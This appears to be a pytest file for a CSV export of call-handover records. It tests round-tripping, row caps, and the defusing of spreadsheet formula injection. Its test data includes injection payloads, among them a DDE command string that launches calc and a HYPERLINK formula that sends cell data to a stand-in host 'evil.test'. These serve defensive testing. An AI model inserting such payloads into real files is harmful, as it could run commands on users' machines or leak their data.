"""The CSV file has the list's content, opens in any spreadsheet, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC
from zoneinfo import ZoneInfo

import pytest

from handover.core.call.state import State
from handover.core.report.csv_export import BOM, COLUMNS, MOST_BYTES, MOST_ROWS, Style, defused, table
from handover.core.report.labels import Labels
from handover.core.report.row import Row
from tests.handover.core.report.lived import row

LABELS = Labels("en")
COMMA = Style(",", COLUMNS, "yes", lambda shown, all: f"cut at {shown} of {all}")
SEMICOLON = Style(";", COLUMNS, "ja", lambda shown, all: f"bei {shown} von {all}")

DANGEROUS = (
    *("=1+1", "+49 30", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", " =1", "  +1", '"=1', "'=1", "' \"@x"),
    *("＝1+1", "＋1", "－1", "＠x", " ＝1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202f-1", "\u2003@x"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1,"open")', "=WEBSERVICE(A1)"),
)
INSIDE = ("a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a\r\n@x", 'a";=1', 'a; "+1', "a;＝1")


def read(text: str, separator: str = ",") -> list[dict[str, str]]:
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator))


@pytest.mark.parametrize("style", [COMMA, SEMICOLON])
def test_what_is_written_is_read_again(style: Style) -> None:
    full = row(
        at="2026-11-23T09:14:07.250000+00:00",
        name='Jürgen "Jo" Müller, jr.',
        reason="Hail;\nwindow broken",
        last2="78",
        language="de",
        channel="web",
        agent="anna",
        agent_name="Anna",
        answered_at="2026-11-23T09:14:20+00:00",
        over_at="2026-11-23T09:20:00+00:00",
        disposition="solved",
        follow_up="2026-11-30",
        callback=True,
        rating=4,
        booked_for="2026-11-23T10:00:00+00:00",
        promise="kept",
        message=17,
        wait=42.4,
    )
    (line,) = read(table([full], LABELS, ZoneInfo("Europe/Berlin"), style), style.separator)
    assert line == {
        "id": full.id,
        "requested": "2026-11-23T10:14:07+01:00",
        "state": "Talked",
        "refusal": "",
        "name": 'Jürgen "Jo" Müller, jr.',
        "number": "…78",
        "reason": "Hail;\nwindow broken",
        "language": "de",
        "channel": "web",
        "agent": "Anna",
        "answered": "2026-11-23T10:14:20+01:00",
        "connected": "2026-11-23T10:14:49+01:00",
        "over": "2026-11-23T10:20:00+01:00",
        "wait": "42",
        "disposition": "Solved",
        "follow_up": "2026-11-30",
        "callback": style.yes,
        "refusals": "",
        "limits": "",
        "rating": "4",
        "booked_for": "2026-11-23T11:00:00+01:00",
        "promise": "kept",
        "message": "17",
    }


def test_a_refused_handover_says_why_and_leaves_open_what_did_not_happen() -> None:
    (line,) = read(table([row(State.REFUSED, refusal="closed")], LABELS, UTC, COMMA))
    assert (line["state"], line["refusal"]) == ("Refused", "outside opening hours")
    assert {line[name] for name in ("number", "answered", "connected", "over", "wait", "callback")} == {""}


def test_no_rows_are_a_heading_alone() -> None:
    assert table([], LABELS, UTC, COMMA) == BOM + ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
    assert defused(cell).startswith("'")
    assert defused(cell).replace("'", "") == cell.replace("'", "")
    (line,) = read(table([row(name=cell)], LABELS, UTC, COMMA))
    assert line["name"] == defused(cell)


@pytest.mark.parametrize("cell", INSIDE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_the_same_holds_after_another_countrys_cell_separator(cell: str, separator: str) -> None:
    text = table([row(name=cell)], LABELS, UTC, COMMA)
    for line in csv.reader(
        io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator, quoting=csv.QUOTE_NONE
    ):
        assert not [part for part in line if part.strip(" \"'")[:1] in tuple("=+-@＝") and "'" not in part]


@pytest.mark.parametrize("cell", ["", "Anna", "3-4", "a=b", "x@example.org", "well - then", "…78", "−5", "a;b", "é"])
def test_a_harmless_cell_stays_as_it_is(cell: str) -> None:
    assert defused(cell) == cell


def test_too_many_rows_are_cut_and_the_last_line_says_so() -> None:
    short = Row("20261123-a-1", "busy", False, "", "2026-11-23T09:00:00+00:00")
    lines = read(table([short] * (MOST_ROWS + 1), LABELS, UTC, COMMA))
    assert len(lines) == MOST_ROWS + 1
    assert lines[-1]["id"] == f"cut at {MOST_ROWS} of {MOST_ROWS + 1}"
    assert len(read(table([short] * MOST_ROWS, LABELS, UTC, COMMA))) == MOST_ROWS


def test_a_file_of_long_rows_fits_into_a_response() -> None:
    long = row(name="ü" * 100, reason='"' * 300)
    text = table([long] * MOST_ROWS, LABELS, UTC, COMMA)
    assert MOST_BYTES * 0.99 < len(json.dumps(text)) < MOST_BYTES + 1000
    last = read(text)[-1]["id"]
    assert last == f"cut at {len(read(text)) - 1} of {MOST_ROWS}"
